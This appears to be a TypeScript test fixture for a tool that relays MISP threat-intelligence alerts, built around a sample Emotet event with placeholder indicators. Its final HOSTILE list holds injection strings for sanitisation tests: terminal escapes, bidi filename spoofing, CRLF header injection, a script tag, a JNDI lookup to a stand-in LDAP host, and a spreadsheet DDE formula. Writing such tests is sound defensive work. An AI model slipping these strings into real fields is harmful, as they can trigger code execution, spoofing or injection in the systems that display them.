import type { Alert, AlertId, Item, Marking } from "../../src/model/alert.ts";
import type { EventView, MispObject } from "../../src/model/misp.ts";
import type { BatchId, DeliveryId } from "../../src/model/outbox.ts";
import type { Entry, GuardedAlert, Payload } from "../../src/model/payload.ts";

export const AMBER: Marking = { tlp: "amber", pap: "none", chr: false };

const UUID = "5f3c1a52-7c1c-4d0e-9c1a-0a2b3c4d5e6f";
const PUBLISHED_AT = Date.UTC(2026, 10, 20, 14, 2, 11);

/** Only the guard makes guarded alerts; for tests of formats, which see nothing else, this is the other place. */
export function guarded(
  alert: Partial<GuardedAlert["alert"]> = {},
  rest: Partial<Omit<GuardedAlert, "alert">> = {},
): GuardedAlert {
  const whole: GuardedAlert["alert"] = {
    id: "a1" as AlertId,
    kind: "event.published",
    instance: "cert",
    receivedAt: PUBLISHED_AT,
    subject: { type: "event", uuid: UUID, id: "4711" },
    version: "1763647331",
    items: [],
    counts: [],
    objects: [],
    lines: [],
    ...alert,
  };
  const sightings = whole.sighting ? [whole.sighting] : [];
  return { form: "full", tlp: "amber", pap: "amber", withheld: 0, sightings, ...rest, alert: whole } as GuardedAlert;
}

export function item(fields: Partial<Item> = {}): Item {
  return {
    uuid: "6f3c1a52-7c1c-4d0e-9c1a-0a2b3c4d5e6f",
    type: "url",
    category: "Network activity",
    value: "https://bad.example/gate.php",
    toIds: true,
    tags: [],
    tagsKnown: true,
    marking: AMBER,
    reach: [],
    ...fields,
  };
}

export const EVENT: EventView = {
  id: "4711",
  uuid: UUID,
  info: "Emotet epoch5 infrastructure, seen at bad.example",
  date: "2026-11-20",
  changedAt: PUBLISHED_AT,
  published: true,
  threatLevel: "high",
  analysis: "ongoing",
  distribution: "connected",
  org: { name: "CIRCL", uuid: "55f6ea5e-2c60-40e5-964f-47a8950d210f" },
  tags: [
    { name: "tlp:amber" },
    { name: "PAP:AMBER" },
    { name: 'misp-galaxy:threat-actor="TA542"' },
    { name: 'misp-galaxy:malpedia="Emotet"' },
    { name: 'admiralty-scale:source-reliability="b"' },
  ],
  clusters: [{ galaxy: "threat-actor", value: "TA542" }],
};

const FILE: MispObject & { reach: [] } = { key: "o1", uuid: "o1", name: "file", metaCategory: "file", reach: [] };

export const ITEMS: readonly Item[] = [
  item({ comment: "C2 panel, first seen at 198.51.100.9" }),
  item({ type: "ip-dst|port", value: "198.51.100.7|8443", comment: "" }),
  item({ type: "domain", value: "bad.example" }),
  item({
    type: "sha256",
    value: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    category: "Payload delivery",
    objectKey: "o1",
    relation: "sha256-of-file",
  }),
  item({
    type: "filename",
    value: "invoice.pdf.exe",
    toIds: false,
    category: "Payload delivery",
    objectKey: "o1",
    relation: "filename",
  }),
  item({ type: "yara", value: "rule Emotet { condition: true }", toIds: true, category: "Payload delivery" }),
  item({ type: "email-src", value: "billing@bad.example", toIds: false, category: "Payload delivery" }),
];

function count(toIds: boolean, n: number): Alert["counts"][number] {
  return { type: "url", toIds, marking: AMBER, reach: [], n };
}

export function entry(guardedAlert: GuardedAlert, rest: Partial<Entry> = {}): Entry {
  return {
    guarded: guardedAlert,
    kinds: [{ kind: guardedAlert.alert.kind, n: 1 }],
    routes: ["urgent"],
    link: new URL(`https://misp.example.org/events/view/${UUID}`),
    deliveries: ["d1" as DeliveryId],
    ...rest,
  };
}

/** One payload of the given entries, as the delivery loop makes it. */
export function payload(entries: readonly Entry[], rest: Partial<Payload> = {}): Payload {
  return {
    batch: "batch-1f2e3d" as BatchId,
    destination: "soar",
    createdAt: PUBLISHED_AT + 500,
    tlp: "amber",
    priority: "normal",
    mentions: [],
    entries,
    show: 20,
    minimal: false,
    ...rest,
  };
}

/** A new event with everything in it. */
export function publication(): Entry {
  return entry(
    guarded({
      change: "new",
      event: EVENT,
      items: ITEMS,
      counts: [count(true, 12), count(false, 25)],
      objects: [FILE],
    }),
  );
}

/** An event that was published again while people went on adding to it. */
export function burst(): Entry {
  return entry(
    guarded({
      change: "updated",
      event: { ...EVENT, threatLevel: "medium" },
      items: ITEMS.slice(0, 2),
      counts: [count(true, 12), count(false, 8)],
    }),
    {
      kinds: [
        { kind: "attribute.added", n: 20 },
        { kind: "event.published", n: 1 },
        { kind: "sighting.added", n: 1 },
      ],
      routes: ["urgent", "our-addresses"],
    },
  );
}

/** An event with attributes that this destination may not see. */
export function withheld(): Entry {
  return entry(
    guarded(
      {
        change: "updated",
        event: { ...EVENT, threatLevel: "low" },
        items: ITEMS.slice(2, 3),
        counts: [count(true, 1)],
      },
      { withheld: 5, pap: "untagged" },
    ),
  );
}

/** An event above the ceiling for content. */
export function metadata(): Entry {
  return entry(
    guarded(
      { change: "new", event: EVENT, counts: [count(true, 12), count(false, 25)] },
      { form: "metadata", tlp: "amber+strict", keptBack: ["tlp"] },
    ),
  );
}

/** An event of which nothing may be told but that it is there. */
export function pointer(): Entry {
  return entry(guarded({ change: "new", event: { id: "4711", uuid: UUID } }, { form: "pointer", tlp: "red" }));
}

/** What people and programs have put into event titles, tags and comments to break what shows them. */
export const HOSTILE: readonly string[] = [
  "\x1b[2J\x1b[1;31mowned\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
  "\x9b31mC1\x9d0;title\x9c",
  "\u202Efdp.exe\u2066\u2067\u200F\u061C",
  "zero\u200Bwidth\u00AD\uFEFF\u{E0041}",
  "line\r\nBcc: v@x.example\u2028x\u2029y\u0085z\v\f",
  "\0nul\x7fdel\b\b\b",
  "lone \uD800 surrogates \uDC00",
  "<!channel> <@U1> @everyone <at>CEO</at> [click](https://evil.example) </td><script>alert(1)</script>",
  `$${"{jndi:ldap://x.example}"} {{7*7}} %s%n =cmd|' /C calc'!A0`,
  `a${"\u0301".repeat(200)}`,
  "🏳️‍🌈".repeat(60),
  "&".repeat(4096),
  "漢字".repeat(200),
];
